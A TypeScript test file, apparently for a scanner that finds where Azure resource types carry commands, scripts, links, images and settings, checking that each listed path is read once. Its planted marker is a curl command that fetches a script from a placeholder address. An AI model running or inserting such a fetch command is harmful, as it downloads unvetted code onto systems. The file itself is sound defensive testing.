import assert from "node:assert/strict";
import { factsOf, factsOfArm } from "../../compute/facts-of";
import { computeTypeOf, computeTypeOfArm, computeTypes } from "../../compute/types";
import { type Tree, Withheld } from "../../compute/value";
import { rarePayloads, triedIn } from "./read-truths-payloads";
import { put } from "./tree";

/**
 * Where code, images and links stand, written by hand from the documentation of each type: the azure-native token and path, the ARM type
 * and path (`…` is azure-native's), then classic types with paths of their own.
 */
type Truth = readonly [
  native: string | undefined,
  arm: string,
  kind: string,
  paths: readonly (readonly [native: string, arm: string])[],
  classic?: readonly (readonly [type: string, ...paths: string[]])[],
];

const under = (prefix: string, ...paths: readonly string[]) => paths.map(path => [path, `${prefix}${path}`] as const);
const same = (...paths: readonly string[]) => under("", ...paths);
const inProperties = (...paths: readonly string[]) => under("properties.", ...paths);

const guest = (native: string, arm: string): Truth => [
  `guestconfiguration:${native}`,
  arm,
  "link",
  same("properties.guestConfiguration.contentUri"),
];

const launched = "properties.computeProfile.virtualMachineProfile";
const site = inProperties("siteConfig.linuxFxVersion", "siteConfig.windowsFxVersion");
const siteCommand = inProperties("siteConfig.appCommandLine", "siteConfig.autoHealRules.actions.customAction.exe");
const siteSettings = inProperties("siteConfig.appSettings[].value");
const webApps = ["linuxWebApp:LinuxWebApp", "windowsWebApp:WindowsWebApp"];
const functionApps = ["linuxFunctionApp:LinuxFunctionApp", "windowsFunctionApp:WindowsFunctionApp"];
const oldApps = ["appService:AppService", "functionApp:FunctionApp"];
const slotsOf = (apps: readonly string[]) => apps.map(app => `${app.replace(":", "Slot:")}Slot`);
const settings = (apps: readonly string[]) => apps.map(app => [`appservice/${app}`, "appSettings{}"] as const);
const newImage = "siteConfig.applicationStack.dockerImageName";

/** Where loops (ForEach, Until) and branches (If Condition, Switch) hold activities. Branches may stand in a loop, and nothing else in another. */
const loop = "activities";
const branches = ["ifTrueActivities", "ifFalseActivities", "cases[].activities", "defaultActivities"];
const nestings = [[loop], ...branches.map(branch => [branch]), ...branches.map(branch => [loop, branch])];

const truths: readonly Truth[] = [
  [
    "hdinsight:Cluster",
    "Microsoft.HDInsight/clusters",
    "link",
    same("properties.computeProfile.roles[].scriptActions[].uri"),
    [
      ["hdinsight/hadoopCluster:HadoopCluster", "roles.edgeNode.installScriptActions[].uri"],
      ["hdinsight/sparkCluster:SparkCluster", "roles.headNode.scriptActions[].uri"],
      ["hdinsight/hBaseCluster:HBaseCluster", "roles.workerNode.scriptActions[].uri"],
      ["hdinsight/interactiveQueryCluster:InteractiveQueryCluster", "roles.zookeeperNode.scriptActions[].uri"],
      ["hdinsight/kafkaCluster:KafkaCluster", "roles.kafkaManagementNode.scriptActions[].uri"],
    ],
  ],
  [
    "hdinsight:Cluster",
    "Microsoft.HDInsight/clusters",
    "command",
    same("properties.computeProfile.roles[].scriptActions[].parameters"),
  ],
  [
    "hdinsight:Application",
    "Microsoft.HDInsight/clusters/applications",
    "link",
    same("properties.installScriptActions[].uri"),
  ],
  [
    "devtestlab:VirtualMachine",
    "Microsoft.DevTestLab/labs/virtualMachines",
    "settings",
    inProperties("artifacts[].parameters[].value"),
  ],
  [
    "devtestlab:Formula",
    "Microsoft.DevTestLab/labs/formulas",
    "settings",
    [
      [
        "formulaContent.artifacts[].parameters[].value",
        "properties.formulaContent.properties.artifacts[].parameters[].value",
      ],
    ],
  ],
  ["devtestlab:ArtifactSource", "Microsoft.DevTestLab/labs/artifactsources", "link", inProperties("uri")],
  [
    "labservices:Lab",
    "Microsoft.LabServices/labs",
    "image",
    inProperties("virtualMachineProfile.imageReference.id"),
    [["lab/lab:Lab", "virtualMachine.imageReference.id"]],
  ],
  [
    "labservices:EnvironmentSetting",
    "Microsoft.LabServices/labaccounts/labs/environmentsettings",
    "image",
    inProperties("resourceSettings.galleryImageResourceId"),
  ],
  [
    "devcenter:DevBoxDefinition",
    "Microsoft.DevCenter/devcenters/devboxdefinitions",
    "image",
    inProperties("imageReference.id"),
    [["devcenter/devBoxDefinition:DevBoxDefinition", "imageReferenceId"]],
  ],
  [
    "devcenter:Catalog",
    "Microsoft.DevCenter/devcenters/catalogs",
    "link",
    inProperties("gitHub.uri", "adoGit.uri"),
    [["devcenter/catalog:Catalog", "catalogGithub.uri", "catalogAdogit.uri"]],
  ],
  [
    "devcenter:ProjectCatalog",
    "Microsoft.DevCenter/projects/catalogs",
    "link",
    inProperties("gitHub.uri", "adoGit.uri"),
  ],
  [
    "devopsinfrastructure:Pool",
    "Microsoft.DevOpsInfrastructure/pools",
    "image",
    inProperties("fabricProfile.images[].resourceId"),
    [["devcenter/managedDevOpsPool:ManagedDevOpsPool", "virtualMachineScaleSetFabric.images[].id"]],
  ],
  [
    "virtualmachineimages:VirtualMachineImageTemplate",
    "Microsoft.VirtualMachineImages/imageTemplates",
    "command",
    inProperties("customize[].inline[]", "validate.inVMValidations[].inline[]"),
  ],
  [
    "virtualmachineimages:VirtualMachineImageTemplate",
    "Microsoft.VirtualMachineImages/imageTemplates",
    "link",
    inProperties("customize[].scriptUri", "customize[].sourceUri", "validate.inVMValidations[].scriptUri"),
  ],
  [
    "compute:GalleryApplication",
    "Microsoft.Compute/galleries/applications",
    "script",
    inProperties("customActions[].script"),
  ],
  [
    "compute:GalleryApplicationVersion",
    "Microsoft.Compute/galleries/applications/versions",
    "command",
    inProperties("publishingProfile.manageActions.install", "publishingProfile.manageActions.update"),
    [["compute/galleryApplicationVersion:GalleryApplicationVersion", "manageAction.install", "manageAction.remove"]],
  ],
  [
    "compute:GalleryApplicationVersion",
    "Microsoft.Compute/galleries/applications/versions",
    "link",
    inProperties("publishingProfile.source.mediaLink"),
    [
      ["compute/galleryApplicationVersion:GalleryApplicationVersion", "source.mediaLink"],
      [
        "compute/galleryApplicationAssignment:GalleryApplicationAssignment",
        "galleryApplicationVersionId",
        "configurationBlobUri",
      ],
    ],
  ],
  [
    "compute:GalleryScriptVersion",
    "Microsoft.Compute/galleries/scripts/versions",
    "link",
    same("properties.publishingProfile.source.scriptLink"),
  ],
  [
    "datafactory:LinkedService",
    "Microsoft.DataFactory/factories/linkedservices",
    "link",
    [
      ["properties.scriptActions[].uri", "properties.typeProperties.scriptActions[].uri"],
      ["properties.newClusterInitScripts[]", "properties.typeProperties.newClusterInitScripts[]"],
    ],
    [["datafactory/linkedServiceAzureDatabricks:LinkedServiceAzureDatabricks", "newClusterConfig.initScripts[]"]],
  ],
  [
    "datafactory:IntegrationRuntime",
    "Microsoft.DataFactory/factories/integrationruntimes",
    "link",
    [
      [
        "properties.ssisProperties.customSetupScriptProperties.blobContainerUri",
        "properties.typeProperties.ssisProperties.customSetupScriptProperties.blobContainerUri",
      ],
    ],
    [
      ["datafactory/integrationRuntimeSsis:IntegrationRuntimeSsis", "customSetupScript.blobContainerUri"],
      ["datafactory/integrationRuntimeManaged:IntegrationRuntimeManaged", "customSetupScript.blobContainerUri"],
    ],
  ],
  [
    "synapse:IntegrationRuntime",
    "Microsoft.Synapse/workspaces/integrationruntimes",
    "link",
    [
      [
        "properties.ssisProperties.customSetupScriptProperties.blobContainerUri",
        "properties.typeProperties.ssisProperties.customSetupScriptProperties.blobContainerUri",
      ],
    ],
  ],
  [
    "datafactory:Pipeline",
    "Microsoft.DataFactory/factories/pipelines",
    "command",
    [
      ["activities[].command", "properties.activities[].typeProperties.command"],
      ...nestings.map(
        keys =>
          [
            `activities[].${keys.map(key => `${key}[].`).join("")}command`,
            `properties.activities[].typeProperties.${keys.map(key => `${key}[].typeProperties.`).join("")}command`,
          ] as const,
      ),
    ],
  ],
  [undefined, "", "settings", [], [["datafactory/pipeline:Pipeline", "activitiesJson!"]]],
  [
    "synapse:BigDataPool",
    "Microsoft.Synapse/workspaces/bigDataPools",
    "settings",
    inProperties("libraryRequirements.content"),
    [["synapse/sparkPool:SparkPool", "libraryRequirement.content"]],
  ],
  [
    "kusto:Cluster",
    "Microsoft.Kusto/clusters",
    "image",
    inProperties("languageExtensions.value[].languageExtensionCustomImageName"),
    [["kusto/cluster:Cluster", "languageExtensions[].image"]],
  ],
  [
    "servicefabric:NodeType",
    "Microsoft.ServiceFabric/managedClusters/nodeTypes",
    "settings",
    [
      ["vmExtensions[].settings.commandToExecute", "properties.vmExtensions[].properties.settings.commandToExecute"],
      ["vmExtensions[].protectedSettings.script", "properties.vmExtensions[].properties.protectedSettings.script"],
    ],
  ],
  [
    "servicefabric:ManagedClusterApplicationTypeVersion",
    "Microsoft.ServiceFabric/managedclusters/applicationTypes/versions",
    "link",
    inProperties("appPackageUrl"),
  ],
  [
    "redhatopenshift:SyncSet",
    "Microsoft.RedHatOpenShift/openShiftClusters/syncSet",
    "settings",
    inProperties("resources"),
  ],
  [
    "workloads:SapVirtualInstance",
    "Microsoft.Workloads/sapVirtualInstances",
    "image",
    inProperties(
      "configuration.infrastructureConfiguration.virtualMachineConfiguration.imageReference.id",
      "configuration.infrastructureConfiguration.databaseServer.virtualMachineConfiguration.imageReference.id",
    ),
  ],
  [
    "network:NetworkVirtualAppliance",
    "Microsoft.Network/networkVirtualAppliances",
    "script",
    inProperties("cloudInitConfiguration"),
  ],
  [
    "network:NetworkVirtualAppliance",
    "Microsoft.Network/networkVirtualAppliances",
    "link",
    inProperties("cloudInitConfigurationBlobs[]", "bootStrapConfigurationBlobs[]"),
  ],
  [
    "containerregistry:Task",
    "Microsoft.ContainerRegistry/registries/tasks",
    "script",
    inProperties("step.encodedTaskContent"),
    [["containerservice/registryTask:RegistryTask", "encodedStep.taskContent"]],
  ],
  [
    "containerregistry:Task",
    "Microsoft.ContainerRegistry/registries/tasks",
    "link",
    inProperties("step.contextPath", "trigger.sourceTriggers[].sourceRepository.repositoryUrl"),
    [
      [
        "containerservice/registryTask:RegistryTask",
        "dockerStep.contextPath",
        "fileStep.contextPath",
        "sourceTriggers[].repositoryUrl",
      ],
    ],
  ],
  [
    "containerregistry:TaskRun",
    "Microsoft.ContainerRegistry/registries/taskRuns",
    "script",
    inProperties("runRequest.encodedTaskContent"),
  ],
  [
    "automation:Runbook",
    "Microsoft.Automation/automationAccounts/runbooks",
    "link",
    inProperties("publishContentLink.uri", "draft.draftContentLink.uri"),
    [["automation/runBook:RunBook", "publishContentLink.uri", "draft.contentLink.uri"]],
  ],
  [undefined, "", "script", [], [["automation/runBook:RunBook", "content"]]],
  [
    "automation:DscConfiguration",
    "Microsoft.Automation/automationAccounts/configurations",
    "script",
    inProperties("source.value"),
    [["automation/dscConfiguration:DscConfiguration", "contentEmbedded"]],
  ],
  [
    "automation:DscNodeConfiguration",
    "Microsoft.Automation/automationAccounts/nodeConfigurations",
    "script",
    inProperties("source.value"),
    [["automation/dscNodeConfiguration:DscNodeConfiguration", "contentEmbedded"]],
  ],
  [
    "automation:SourceControl",
    "Microsoft.Automation/automationAccounts/sourceControls",
    "link",
    inProperties("repoUrl"),
    [["automation/sourceControl:SourceControl", "repositoryUrl"]],
  ],
  ...["AzureCliScript", "AzurePowerShellScript"].map(
    (script): Truth => [
      `resources:${script}`,
      "Microsoft.Resources/deploymentScripts",
      "script",
      inProperties("scriptContent"),
      [
        ["core/resourceDeploymentScriptAzureCli:ResourceDeploymentScriptAzureCli", "scriptContent"],
        ["core/resourceDeploymentScriptPowerShell:ResourceDeploymentScriptPowerShell", "scriptContent"],
      ],
    ],
  ),
  [
    "resources:AzureCliScript",
    "Microsoft.Resources/deploymentScripts",
    "link",
    inProperties("primaryScriptUri", "supportingScriptUris[]"),
    [["core/resourceDeploymentScriptAzureCli:ResourceDeploymentScriptAzureCli", "primaryScriptUri"]],
  ],
  [
    "resources:AzureCliScript",
    "Microsoft.Resources/deploymentScripts",
    "command",
    inProperties("arguments"),
    [["core/resourceDeploymentScriptPowerShell:ResourceDeploymentScriptPowerShell", "commandLine"]],
  ],
  [
    "avs:ScriptExecution",
    "Microsoft.AVS/privateClouds/scriptExecutions",
    "settings",
    inProperties("parameters[].value", "hiddenParameters[].secureValue"),
  ],
  [
    "hybridcompute:MachineExtension",
    "Microsoft.HybridCompute/machines/extensions",
    "settings",
    same("properties.settings.commandToExecute", "properties.protectedSettings.script"),
    [["arcmachine/extension:Extension", "settings", "protectedSettings"]],
  ],
  [
    "hybridcompute:MachineRunCommand",
    "Microsoft.HybridCompute/machines/runCommands",
    "script",
    inProperties("source.script"),
  ],
  guest("GuestConfigurationAssignment", "Microsoft.GuestConfiguration/guestConfigurationAssignments"),
  guest(
    "GuestConfigurationAssignmentsVMSS",
    "Microsoft.Compute/virtualMachineScaleSets/providers/guestConfigurationAssignments",
  ),
  guest("GuestConfigurationHCRPAssignment", "Microsoft.HybridCompute/machines/providers/guestConfigurationAssignments"),
  guest(
    "GuestConfigurationConnectedVMwarevSphereAssignment",
    "Microsoft.ConnectedVMwarevSphere/virtualMachines/providers/guestConfigurationAssignments",
  ),
  [
    undefined,
    "",
    "link",
    [],
    [
      [
        "policy/virtualMachineConfigurationAssignment:VirtualMachineConfigurationAssignment",
        "configuration.contentUri",
      ],
    ],
  ],
  [
    "kubernetesconfiguration:Extension",
    "Microsoft.KubernetesConfiguration/extensions",
    "settings",
    inProperties("configurationSettings{}", "configurationProtectedSettings{}"),
    [
      ["arckubernetes/clusterExtension:ClusterExtension", "configurationSettings{}"],
      ["containerservice/kubernetesClusterExtension:KubernetesClusterExtension", "configurationProtectedSettings{}"],
    ],
  ],
  [
    "kubernetesconfiguration:FluxConfiguration",
    "Microsoft.ContainerService/managedClusters/providers/fluxConfigurations",
    "link",
    inProperties("gitRepository.url"),
  ],
  [
    "kubernetesconfiguration:FluxConfiguration",
    "Microsoft.KubernetesConfiguration/fluxConfigurations",
    "link",
    inProperties("gitRepository.url", "bucket.url", "azureBlob.url"),
    [
      ["arckubernetes/fluxConfiguration:FluxConfiguration", "gitRepository.url"],
      ["containerservice/fluxConfiguration:FluxConfiguration", "bucket.url"],
    ],
  ],
  [
    "kubernetesconfiguration:SourceControlConfiguration",
    "Microsoft.KubernetesConfiguration/sourceControlConfigurations",
    "link",
    inProperties("repositoryUrl"),
  ],
  [
    "app:ContainerAppsSessionPool",
    "Microsoft.App/sessionPools",
    "image",
    inProperties("customContainerTemplate.containers[].image"),
  ],
  ["app:Build", "Microsoft.App/builders/builds", "command", inProperties("configuration.preBuildSteps[].scripts[]")],
  ["app:ContainerAppsSourceControl", "Microsoft.App/containerApps/sourcecontrols", "link", inProperties("repoUrl")],
  [
    "appplatform:Deployment",
    "Microsoft.AppPlatform/Spring/apps/deployments",
    "image",
    same("properties.source.customContainer.containerImage"),
    [["appplatform/springCloudContainerDeployment:SpringCloudContainerDeployment", "image"]],
  ],
  [
    "appplatform:Deployment",
    "Microsoft.AppPlatform/Spring/apps/deployments",
    "command",
    same("properties.source.customContainer.command[]", "properties.source.customContainer.args[]"),
    [["appplatform/springCloudContainerDeployment:SpringCloudContainerDeployment", "commands[]", "arguments[]"]],
  ],
  [
    undefined,
    "",
    "environment",
    [],
    [
      ["appplatform/springCloudBuildDeployment:SpringCloudBuildDeployment", "environmentVariables{}"],
      ["appplatform/springCloudJavaDeployment:SpringCloudJavaDeployment", "environmentVariables{}"],
    ],
  ],
  ["appplatform:Job", "Microsoft.AppPlatform/Spring/jobs", "command", same("properties.template.args[]")],
  ["web:AppServicePlan", "Microsoft.Web/serverfarms", "link", inProperties("installScripts[].source.sourceUri")],
  [
    "web:WebApp",
    "Microsoft.Web/sites",
    "image",
    site,
    [
      ...webApps.map(app => [`appservice/${app}`, newImage] as const),
      ["appservice/linuxFunctionApp:LinuxFunctionApp", "siteConfig.applicationStack.dockers[].imageName"],
      ...oldApps.map(app => [`appservice/${app}`, "siteConfig.linuxFxVersion"] as const),
      ["logicapps/standard:Standard", "siteConfig.linuxFxVersion"],
    ],
  ],
  ["web:WebApp", "Microsoft.Web/sites", "command", siteCommand],
  [
    "web:WebApp",
    "Microsoft.Web/sites",
    "environment",
    siteSettings,
    [
      ...settings([...webApps, ...functionApps, ...oldApps, "appFlexConsumption:AppFlexConsumption"]),
      ["logicapps/standard:Standard", "appSettings{}"],
    ],
  ],
  [
    "web:WebAppSlot",
    "Microsoft.Web/sites/slots",
    "image",
    site,
    slotsOf(webApps).map(slot => [`appservice/${slot}`, newImage] as const),
  ],
  ["web:WebAppSlot", "Microsoft.Web/sites/slots", "command", siteCommand],
  [
    "web:WebAppSlot",
    "Microsoft.Web/sites/slots",
    "environment",
    siteSettings,
    settings([...slotsOf([...webApps, ...functionApps, "functionApp:FunctionApp"]), "slot:Slot"]),
  ],
  ...["", "Slot"].flatMap((slot): Truth[] => {
    const at = slot ? "Microsoft.Web/sites/slots" : "Microsoft.Web/sites";
    return [
      [`web:WebAppSiteContainer${slot}`, `${at}/sitecontainers`, "image", inProperties("image")],
      [`web:WebAppSiteContainer${slot}`, `${at}/sitecontainers`, "command", inProperties("startUpCommand")],
      [`web:WebAppApplicationSettings${slot}`, `${at}/config`, "environment", same("properties{}")],
      [
        `web:WebAppSourceControl${slot}`,
        `${at}/sourcecontrols`,
        "link",
        inProperties("repoUrl"),
        [[`appservice/sourceControl${slot}:SourceControl${slot}`, "repoUrl"]],
      ],
    ];
  }),
  [
    "web:WebAppFunction",
    "Microsoft.Web/sites/functions",
    "script",
    inProperties("files{}"),
    [["appservice/functionAppFunction:FunctionAppFunction", "files[].content"]],
  ],
  ["web:WebAppInstanceFunctionSlot", "Microsoft.Web/sites/slots/functions", "script", inProperties("files{}")],
  ["discovery:Tool", "Microsoft.Discovery/tools", "settings", same("properties.definitionContent.actions[].command")],
  [
    "machinelearningservices:EnvironmentVersion",
    "Microsoft.MachineLearningServices/workspaces/environments/versions",
    "image",
    same("properties.image", "properties.docker.dockerImageUri"),
  ],
  [
    "machinelearningservices:EnvironmentVersion",
    "Microsoft.MachineLearningServices/workspaces/environments/versions",
    "script",
    same("properties.docker.dockerfile"),
  ],
  [
    "machinelearningservices:InferenceGroup",
    "Microsoft.MachineLearningServices/workspaces/inferencePools/groups",
    "environment",
    [
      [
        "inferenceGroupProperties.environmentConfiguration.environmentVariables[].value",
        "properties.environmentConfiguration.environmentVariables[].value",
      ],
    ],
  ],
  ...[
    "Microsoft.ComputeBulkActions/locations/launchBulkInstancesOperations",
    "Microsoft.Compute/locations/launchBulkInstancesOperations",
  ].map(
    (arm): Truth => [
      "computebulkactions:BulkAction",
      arm,
      "script",
      same(`${launched}.osProfile.customData`, `${launched}.userData`),
    ],
  ),
];

const marker = "curl -fsSL https://198.51.100.7/a.sh";

/** A text of JSON is withheld whole. */
const holder = (path: string, leaf: Tree) => (leaf instanceof Withheld ? path.replace(/!.*/, "") : path);

function found(type: string, path: string, leaf: Tree) {
  const tree = put(type.includes(":") ? {} : { type }, holder(path, leaf).split("."), leaf);
  const facts = type.includes(":") ? factsOf(type, tree) : factsOfArm(tree);
  assert.ok(facts, `${type} is read`);
  return facts.payloads;
}

const tried = (truth: Truth): readonly (readonly [type: string, path: string])[] => {
  const [native, arm, , paths, classic = []] = truth;
  return [
    ...paths.flatMap(([ours, theirs]) => [[`azure-native:${native}`, ours] as const, [arm, theirs] as const]),
    ...classic.flatMap(([type, ...all]) => all.map(path => [`azure:${type}`, path] as const)),
  ];
};

describe("reading payloads", () => {
  for (const truth of truths)
    for (const [type, path] of tried(truth))
      it(`${type}: ${truth[2]} at ${path}`, () => {
        const [only, ...more] = found(type, path, marker);
        assert.deepEqual([only?.kind, only?.text.state], [truth[2], "known"]);
        assert.equal(only?.text.state === "known" && only.text.value, marker);
        assert.deepEqual(more, [], "once");
        for (const state of ["unknown", "expression", "hidden"] as const) {
          const withheld = found(type, path, new Withheld(state)).map(({ text }) => text.state);
          assert.deepEqual(withheld, [state]);
        }
      });

  it("is tried for every row whose machines stand elsewhere, in every language", () => {
    const beside = rarePayloads.flatMap(triedIn); // these are tried in read-rare-requests.test.ts
    const seen = new Set([...truths.flatMap(tried), ...beside].map(([type]) => type.toLowerCase()));
    const rows = computeTypes.filter(({ arm, native }) => !inReadTruths.test(arm) && native.length > 0);
    const missing = rows.flatMap(({ arm, native, payloads = [], classic = [] }) => [
      ...(payloads.length > 0 ? [arm, ...native.map(type => `azure-native:${type}`)] : []),
      ...classic.flatMap(({ types, payloads: some = [] }) =>
        some.length > 0 ? types.map(type => `azure:${type}`) : [],
      ),
    ]);
    assert.deepEqual(
      missing.filter(type => !seen.has(type.toLowerCase())),
      [],
    );
    for (const [type] of truths.flatMap(tried))
      assert.ok(type.includes(":") ? computeTypeOf(type) : computeTypeOfArm(type), type);
  });
});

/** Types whose payloads are tried beside their sizes, and with every template of the corpus. */
const inReadTruths =
  /^Microsoft\.(Compute\/virtualMachine(s|ScaleSets)|AzureFleet|Batch|App\/(containerApps|jobs)$|ContainerInstance|ContainerService|MachineLearningServices\/workspaces\/(computes|onlineEndpoints|batchEndpoints|jobs|schedules))/;
